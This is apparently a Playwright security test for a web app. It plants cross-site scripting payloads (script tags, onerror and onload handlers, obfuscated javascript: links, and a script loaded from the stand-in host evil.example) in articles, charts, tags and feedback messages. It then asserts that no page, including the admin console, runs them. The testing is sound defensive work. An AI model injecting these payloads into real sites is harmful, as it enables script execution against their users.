import { expect, type Page } from '@playwright/test';
import { publishArticle } from './article.ts';
import { beEditor } from './editor.ts';
import { newPerson } from './people.ts';
import { saveChart, viewOf } from './saved-chart.ts';
import { test } from './test.ts';
import { visit } from './visit.ts';

/** Scripts that each would report, in a different way, that they ran. */
const payloads = [
  '<script>window.hacked=1;alert(1)</script>',
  '"><img src=x onerror="window.hacked=2;alert(2)">',
  '<svg onload="window.hacked=3;alert(3)"></svg>',
  '</script></title></style></textarea><script src="https://evil.example/x.js"></script>',
  "');window.hacked=4;alert(4);//",
  '<iframe srcdoc="<script>parent.hacked=5</script>"></iframe>',
];
const all = payloads.join(' ');
/** The beginning of the payloads, short enough for titles and names. */
const short = all.slice(0, 190);

const body = [
  ...payloads,
  '[press](javascript:window.hacked=6)',
  '[press]( \u0001java&Tab;script:window.hacked=7)',
  '![x](https://evil.example/x.png "x\\" onerror=window.hacked=8")',
  '<javascript:window.hacked=9>',
  '```"><script>window.hacked=10</script>\nx\n```',
].join('\n\n');

/** Records everything on a page that only an injected script would do. */
async function watch(page: Page): Promise<() => Promise<string[]>> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'evil.example') seen.push(`asked for ${request.url()}`);
  });
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) seen.push(message.text());
  });
  return async () => {
    const hacked = await page.evaluate(() => (window as { hacked?: number }).hacked);
    return hacked === undefined ? seen : [...seen, `ran: ${hacked}`];
  };
}

/** Sends a message to the team, as somebody who takes their time. */
async function writeMessage(page: Page, subject: string): Promise<void> {
  const answer = await page.request.post('/api/feedback', {
    data: { name: short, phone: '9876543210', email: 'asha@example.org', subject, message: all, page: '/' },
  });
  expect(answer.ok(), await answer.text()).toBe(true);
}

test('what people have stored runs in no page that shows it', async ({ page }) => {
  test.slow();
  const mark = newPerson().password.slice(-8);
  await beEditor(page);
  const title = `${short.slice(0, 180)} ${mark}`;
  const chart = await saveChart(page, { title: short, notes: all, visibility: 'public' });
  const text = { title, excerpt: all.slice(0, 400), body: `${body}\n\n[${mark}](${viewOf(chart)})` };
  const article = await publishArticle(page.request, {
    kind: 'blog',
    slug: `hostile-${mark}`,
    texts: { en: text, fr: text },
    authors: payloads.map((one) => one.slice(0, 100)),
    tags: payloads.map((one) => one.slice(0, 50)),
  });
  await writeMessage(page, `${mark} ${all}`.slice(0, 150));
  const ran = await watch(page);

  await visit(page, `/news_blogs/${article.slug}`);
  await expect(page.getByRole('heading', { level: 1 })).toContainText(mark);
  await expect(page.locator(`figure[data-chart="${chart.visID}"]`)).toBeVisible();
  await expect(page.getByText(payloads[0] ?? '').first()).toBeAttached();
  for (const link of await page.getByText('press', { exact: true }).all()) await link.click();
  expect(await ran()).toEqual([]);

  for (const path of [
    '/news_blogs',
    `/news_blogs/${article.slug}?lang=fr`,
    viewOf(chart),
    `${viewOf(chart)}&edit=1`,
    `/embed/${chart.visID}`,
    `/charts/${chart.visID}.svg`,
    '/console/content',
    `/console/content/${article.id}`,
    `/console/content/${article.id}/revisions`,
    '/console/media',
  ]) {
    await page.goto(path);
    await page.waitForLoadState('networkidle');
    expect([path, await ran()]).toEqual([path, []]);
  }
});

test('what visitors write to the team runs in no page of the inbox', async ({ page }) => {
  const mark = newPerson().password.slice(-8);
  await beEditor(page);
  await writeMessage(page, `${mark} ${payloads[1]}`);
  const ran = await watch(page);
  await visit(page, `/console/feedback?search=${mark}`);
  expect(await ran()).toEqual([]);
  await page.getByRole('link', { name: mark }).first().click();
  await expect(page.getByText(payloads[0] ?? '').first()).toBeVisible();
  expect(await ran()).toEqual([]);
});
